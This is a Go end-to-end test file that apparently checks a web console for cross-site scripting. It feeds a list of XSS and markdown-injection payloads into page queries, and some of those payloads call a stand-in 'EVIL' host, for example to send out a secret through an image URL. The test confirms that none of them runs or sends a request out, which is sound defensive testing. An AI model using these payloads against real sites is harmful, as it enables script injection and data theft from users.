package console

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/playwright-community/playwright-go"

	"umg/e2e/harness"
)

// scriptsOf are texts that become a running script, or a request to EVIL, wherever markup is made of them. Each is short enough
// for a name.
var scriptsOf = []string{
	`"><img src=x onerror=canary()>`,
	`</script><script>canary()</script>`,
	`</textarea></title><svg onload=canary()>`,
	`' autofocus onfocus=canary() x='" onmouseover=canary() "`,
	`javascript:canary()//"><a href=javascript:canary()>x</a>`,
	`![q](EVIL/m) [x](javascript:canary())`,
	`<b hx-get=EVIL/h hx-trigger=load hx-on:load=canary()>h</b>`,
	`<style>*{background:url(EVIL/c)}</style>`,
	`<link rel=stylesheet href=EVIL/l><base href=EVIL/>`,
	`<iframe srcdoc="<script>parent.canary()</script>">`,
	`<math><mtext><table><mglyph><style><img src onerror=canary()>`,
	`<noscript><p title="</noscript><img src=x onerror=canary()>">`,
	`${canary()}{{constructor.constructor('canary()')()}}`,
}

// stretches are longer ones, as models write them.
const stretches = "\n\n![secret](EVIL/?q=secret \"t\")\n[click](javascript:canary()) [data](data:text/html,<script>canary()</script>) <EVIL/auto>\n\n" +
	"```html\n</code></pre><script>canary()</script><img src=EVIL/code>\n```\n\n| a | b |\n|---|---|\n| <img src=x onerror=canary()> | ![](EVIL/cell) |\n\n" +
	"<details open ontoggle=canary()><summary>s</summary></details>\n\n<svg><animate onbegin=canary() attributeName=x dur=1s></svg>\n\n" +
	"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=canary() src>\">\n\n" +
	"[ref]: javascript:canary()\n[ref] &lt;img src=x onerror=canary()&gt; &#106;avascript:canary()\n<!-- --!><img src=x onerror=canary()> -->\n"

// stranger listens where nothing may ever come.
type stranger struct {
	url  string
	came atomic.Int64
}

func newStranger(t *testing.T) *stranger {
	t.Helper()
	s := &stranger{}
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { s.came.Add(1) }))
	t.Cleanup(server.Close)
	s.url = server.URL
	return s
}

// hostile are the short texts, with the stranger's address.
func (s *stranger) hostile() []string {
	all := slices.Clone(scriptsOf)
	for i, text := range all {
		all[i] = strings.ReplaceAll(text, "EVIL", s.url)
	}
	return all
}

// wall is all of it, for fields that take much.
func (s *stranger) wall() string {
	return strings.Join(s.hostile(), "\n") + strings.ReplaceAll(stretches, "EVIL", s.url)
}

// armCanary makes the function that nothing may call.
const armCanary = `window.sang = []; window.canary = () => { window.sang.push(new Error().stack); return 1; };`

// planted finds what only a text that became markup can have put into a page.
const planted = `() => {
	const found = [...window.sang, ...window.blocked];
	const own = "` + `a[href^='javascript:' i], [src^='javascript:' i], a[href^='data:text' i], [onerror], [onload], [onfocus], [onmouseover], [ontoggle], [onbegin], ` +
	`iframe, base, object, embed, mglyph, math, img[src='x'], [srcdoc], [hx-on\\:load]";
	for (const e of document.querySelectorAll(own)) found.push(e.outerHTML.slice(0, 200));
	for (const e of document.querySelectorAll("[src], link[href], [hx-get], [hx-post], form[action]")) {
		const to = e.getAttribute("src") || e.getAttribute("href") || e.getAttribute("hx-get") || e.getAttribute("hx-post") || e.getAttribute("action");
		if (new URL(to, location.href).origin !== location.origin && !/^(data|blob):/.test(to)) found.push(e.outerHTML.slice(0, 200));
	}
	return found;
}`

// guarded is a browser in which no script of a text may run and out of which nothing may go.
type guarded struct {
	*reading
	evil *stranger
	mu   sync.Mutex
	left []string
}

func guards(t *testing.T, g *harness.Gateway, p *harness.ConsoleClient, s *stranger) *guarded {
	t.Helper()
	r := &guarded{reading: opens(t, g, p), evil: s}
	r.Must(r.AddInitScript(playwright.Script{Content: new(armCanary)}))
	r.Context().OnRequest(func(q playwright.Request) {
		to := q.URL()
		if strings.HasPrefix(to, g.ConsoleURL) || strings.HasPrefix(to, "data:") || strings.HasPrefix(to, "blob:") {
			return
		}
		r.mu.Lock()
		defer r.mu.Unlock()
		r.left = append(r.left, to)
	})
	r.OnDialog(func(d playwright.Dialog) {
		t.Errorf("a dialog opened: %s", d.Message())
		_ = d.Dismiss()
	})
	return r
}

// visit opens a page whose texts are hostile.
func (r *guarded) visit(path string) {
	r.T.Helper()
	answer, err := r.Goto(r.g.ConsoleURL + path)
	r.Must(err)
	if s := answer.Status(); s >= 500 {
		r.T.Errorf("%s: status %d", path, s)
	}
	r.silent(path)
}

// silent insists that nothing ran, left or became markup.
func (r *guarded) silent(where string) {
	r.T.Helper()
	found, err := r.Evaluate(planted)
	r.Must(err)
	if list := found.([]any); len(list) > 0 {
		r.T.Errorf("%.200s: %v", where, list)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.left) > 0 || r.evil.came.Load() > 0 {
		r.T.Errorf("%.200s: requests left for %v, %d arrived", where, r.left, r.evil.came.Load())
	}
	r.left = nil
}

// listsAsked are pages with the names of all that may be asked of them.
var listsAsked = map[string]string{
	"/keys": "q env kind health sort page", "/assets": "q type status size view page", "/videos": "status model view after q", "/usage": "range by model style reason tag key user from to tz",
	"/requests": "model status style key user tag q id from to tz after rows provider", "/billing": "by month", "/billing/ledger": "kind from to before",
	"/settings/audit": "kind actor from to before object", "/prompts": "q page", "/models": "q capability style modality status from to context unit view sort",
	"/compare": "m only", "/docs": "q", "/search": "q", "/limits": "model", "/model/price": "model input output size", "/keys/new": "name mode",
	"/playground": "model style prompt system tools schema param.temperature turn_role turn_text var_x version", "/playground/video": "model prompt size seconds remix",
	"/operator": "replica", "/operator/margin": "days provider model", "/operator/pause": "kind id", "/operator/catalog": "before", "/operator/accounts": "q state sort after below", "/operator/trials": "made", "/operator/credentials/new": "name", "/operator/providers/new": "q",
	"/recipes/aider/calls": "since", "/notifications": "page after",
}

// TestHostileQueriesStayText puts every text into everything that lists and forms may be asked for by their address.
func TestHostileQueriesStayText(t *testing.T) {
	t.Parallel()
	s := newStranger(t)
	c := harness.SharedVideoDemo(t).NewCustomer(t, "asked")
	runsIt(t, c)
	r := guards(t, c.Gateway, c.SignInToConsole(t), s)
	all := s.hostile()
	for path, names := range listsAsked {
		for part := range slices.Chunk(all, 7) {
			query := url.Values{}
			for i, name := range strings.Fields(names) {
				query.Set(name, part[i%len(part)])
			}
			r.visit("/console" + path + "?" + query.Encode())
		}
	}
	visitor := guards(t, c.Gateway, nil, s)
	for _, path := range []string{"/sign-in?next=", "/sign-up?next=", "/verify?token=", "/reset?token=", "/email?token=", "/invitations?token=", "/shared/", "/models/", "/docs/"} {
		visitor.visit("/console" + path + url.PathEscape(all[0]+all[4]))
	}
	r.visit("/console")
	r.Must(r.Keyboard().Press("ControlOrMeta+k"))
	r.Must(r.Keyboard().InsertText(all[0]))
	answer := fmt.Sprintf("/console/search?q=%s", url.QueryEscape(all[0]))
	_, err := r.Evaluate(`path => fetch(path, {headers: {"HX-Request": "true"}}).then(a => a.text())`, answer)
	r.Must(err)
	r.silent("the palette")
}
